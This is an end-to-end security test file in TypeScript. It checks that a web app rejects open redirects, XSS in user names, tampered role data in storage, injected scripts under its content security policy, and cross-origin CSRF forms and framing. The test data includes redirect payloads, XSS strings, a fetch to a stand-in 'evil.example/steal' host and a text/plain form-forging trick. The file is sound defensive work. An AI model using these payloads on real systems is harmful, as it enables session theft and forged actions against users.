import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readStack } from './stack/index.ts'
import { callApi } from './support/api.ts'
import { signInByForm } from './support/forms.ts'
import { register } from './support/people.ts'
import { readKept, setTokenExpiry } from './support/storage.ts'
import { expect, test } from './support/test.ts'

/** Addresses that must not be followed; each belongs to somebody else or is a program. */
const targets = [
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https://evil.example/',
  'http:evil.example',
  '/\t/evil.example',
  '/%09/evil.example/..//evil.example',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://127.0.0.1.evil.example/',
  'http://127.0.0.1@evil.example/',
]

test.describe('signed in', () => {
  test.use({ kind: 'resident' })

  test('attack A15 redirect targets of others and programs lead to /', async ({ page }) => {
    const { baseUrl } = readStack()
    for (const target of targets) {
      await page.goto(`/login?redirect=${encodeURIComponent(target)}`)
      // What is left of a path of ours may be a page we do not have.
      await expect(page, target).toHaveURL(
        (url) => url.origin === baseUrl && ['/home', '/404'].includes(url.pathname),
      )
    }
  })

  test('attack E14 the 502 page returns to own paths only', async ({ page }) => {
    for (const target of targets.slice(0, 6)) {
      await page.goto(`/502?from=${encodeURIComponent(target)}`)
      await page.getByRole('button', { name: '立即重试' }).click()
      await expect(page, target).toHaveURL('/home')
    }
  })
})

test('attack A15 a redirect target of others leads to / after a sign-in by hand', async ({
  page,
  resident,
}) => {
  await page.goto('/login?redirect=%2F%2Fevil.example%2Fsteal')
  await signInByForm(page, await resident.get())
  await expect(page).toHaveURL('/home')
})

test.describe('a member', () => {
  test.use({ kind: 'member' })

  test('attack A16 user info edited in the browser opens nothing', async ({ page, person }) => {
    await page.goto('/home')
    await expect.poll(() => readKept(page, 'app.routes')).not.toBeNull()
    await page.evaluate(() => {
      for (const storage of [localStorage, sessionStorage]) {
        const kept = JSON.parse(storage.getItem('app.user') ?? '{}')
        kept.data.current_workspace.ws_user_type = 3
        for (const workspace of kept.data.workspaces) workspace.ws_user_type = 3
        storage.setItem('app.user', JSON.stringify(kept))
      }
      const routes = JSON.parse(localStorage.getItem('app.routes') ?? '{}')
      localStorage.setItem(
        'app.routes',
        JSON.stringify({ ...routes, data: { user_type: 3, paths: ['/manage/users/all'] } }),
      )
    })
    await page.goto('/manage/users/all')
    await expect(page).toHaveURL('/403')
    const info = await callApi<{ current_workspace: { ws_user_type: number } }>('GET /user/info', {
      token: person.token,
    })
    expect(info.current_workspace.ws_user_type).toBe(1)
  })
})

test('attack E6 tags in names are shown as text everywhere', async ({ openBrowser }) => {
  const name = '<img src=x onerror=alert(1)><b>周</b>'
  const company = `<script>alert(2)</script>"'><svg onload=alert(3)> ${Date.now()}`
  const person = await register(name)
  const page = await (await openBrowser(person)).newPage()
  await page.goto('/guide')
  await expect(page.getByLabel('姓名')).toHaveValue(name)
  await expect(page.getByRole('banner')).toContainText(name)
  await page.getByRole('button', { name: '继续' }).click()
  await page.getByLabel('企业名称').fill(company)
  await page.getByRole('button', { name: '创建公司' }).click()
  await expect(page).toHaveURL('/home')
  await expect(page.getByText(`，${name}`)).toBeVisible()
  await expect(page.getByText(`已加入${company}`)).toBeVisible()
  await expect(page.getByRole('button', { name: '账户菜单' })).toContainText(name)
  await page.getByRole('button', { name: '切换工作区' }).click()
  await expect(page.getByRole('menuitemradio')).toContainText(company)
  await page.goto('/accountSetting?tab=delete')
  await expect(page.getByText(`你是“${company}”的创建者`)).toBeVisible()
  expect(await page.locator('img[src="x"], svg[onload], main b script').count()).toBe(0)
})

test.describe('injection', () => {
  test.use({ kind: 'resident' })

  test('attack R1 the policy refuses injected script, handler, object, base, frame and foreign image', async ({
    page,
    health,
  }) => {
    health.allow(
      /Content Security Policy/,
      /foreign request: https:\/\/evil\.example/,
      /evil\.example/,
    )
    await page.goto('/home')
    const violations = await page.evaluate(async () => {
      const seen = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => {
        seen.add(event.effectiveDirective)
      })
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag)
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
        document.head.append(element)
        return element
      }
      add('script', {}).textContent = 'window.broken = 1'
      const inline = document.createElement('script')
      inline.textContent = 'window.broken = 1'
      document.body.append(inline)
      add('script', { src: 'https://evil.example/x.js' })
      add('base', { href: 'https://evil.example/' })
      const box = document.createElement('div')
      box.innerHTML =
        '<img src="https://evil.example/x.png"><img src="data:," onerror="window.broken = 1">' +
        '<object data="https://evil.example/x.swf"></object><iframe src="https://evil.example/"></iframe>'
      document.body.append(box)
      await fetch('https://evil.example/steal').catch(() => undefined)
      const wanted = [
        'script-src-elem',
        'script-src-attr',
        'base-uri',
        'img-src',
        'object-src',
        'connect-src',
      ]
      const deadline = performance.now() + 5_000
      while (performance.now() < deadline && !wanted.every((name) => seen.has(name))) {
        await new Promise((resolve) => setTimeout(resolve, 20))
      }
      return { seen: [...seen].toSorted(), broken: 'broken' in window, base: document.baseURI }
    })
    expect(violations.broken).toBe(false)
    expect(violations.base).toBe(`${readStack().baseUrl}/home`)
    expect(violations.seen).toEqual(
      expect.arrayContaining([
        'base-uri',
        'connect-src',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
      ]),
    )
  })
})

/** A page of another origin; as `localhost` it is of another site too, which cookies care about. */
async function startOtherSite(html: string) {
  const server = createServer((_request, reply) => {
    reply.setHeader('content-type', 'text/html').end(html)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    origins: [`http://127.0.0.1:${port}`, `http://localhost:${port}`],
    stop: () => new Promise((resolve) => server.close(resolve)),
  }
}

test.describe('another site', () => {
  test.use({ kind: 'creator' })

  test('attacks Q1, Q4, E13 forms, calls and frames of other origins achieve nothing', async ({
    page,
    context,
    person,
    health,
  }) => {
    health.allow(/localhost/, /CORS/, /ERR_FAILED/, /status of 4/, /frame/i, /ERR_BLOCKED/)
    const { baseUrl } = readStack()
    const refreshCookie = async () =>
      (await context.cookies(`${baseUrl}/api/auth/refresh`)).find(
        ({ name }) => name === 'refresh_token',
      )?.value
    const site = await startOtherSite('<!doctype html><title>other</title><body></body>')
    try {
      for (const origin of site.origins) {
        await page.goto(origin)
        await test.step(`Q4 ${origin}: a refresh with the cookie is refused and gives nothing to read`, async () => {
          const before = await refreshCookie()
          const outcome = await page.evaluate(
            (url) =>
              fetch(url, { method: 'POST', credentials: 'include', mode: 'no-cors' }).then(
                (answer) => answer.type,
                () => 'failed',
              ),
            `${baseUrl}/api/auth/refresh`,
          )
          expect(['opaque', 'failed']).toContain(outcome)
          expect(await refreshCookie()).toBe(before)
        })
        for (const [path, body] of [
          ['/auth/logout', '{"everywhere":true}'],
          ['/user/password', '{"old_password":"correct-horse-9"}'],
          ['/workspaces', '{"company_name":"evil"}'],
        ] as const) {
          await test.step(`Q1 ${origin}: a text/plain form to ${path} is refused`, async () => {
            await page.goto(origin)
            const reply = page.waitForResponse((answer) => answer.url() === `${baseUrl}/api${path}`)
            await page.evaluate(
              ([action, text]) => {
                const form = document.createElement('form')
                form.method = 'post'
                form.enctype = 'text/plain'
                form.action = action
                const input = document.createElement('input')
                input.name = `${text.slice(0, -1)},"x":"`
                input.value = '"}'
                form.append(input)
                document.body.append(form)
                form.submit()
              },
              [`${baseUrl}/api${path}`, body] as const,
            )
            await page.waitForURL(`${baseUrl}/api${path}`)
            expect((await reply).status(), path).toBeGreaterThanOrEqual(400)
            expect((await reply).status(), path).toBeLessThan(500)
          })
        }
        await test.step(`E13 ${origin}: the product is not shown in a frame`, async () => {
          await page.goto(origin)
          const reply = page.waitForResponse(`${baseUrl}/login`)
          await page.evaluate((src) => {
            const frame = document.createElement('iframe')
            frame.src = src
            document.body.append(frame)
          }, `${baseUrl}/login`)
          const headers = await (await reply).allHeaders()
          expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
          const inner = page.frames().find((frame) => frame !== page.mainFrame())
          await expect.poll(() => inner?.url()).toMatch(/chrome-error|about:blank/)
        })
      }
      // Nobody was signed out, and the cookie still works for ourselves.
      expect(await callApi('GET /user/info', { token: person.token })).toBeTruthy()
      await page.goto('/home')
      await expect(page.getByRole('button', { name: '账户菜单' })).toBeVisible()
      await setTokenExpiry(page, -1)
      await page.reload()
      await expect(page.getByRole('button', { name: '账户菜单' })).toBeVisible()
    } finally {
      await site.stop()
    }
  })
})
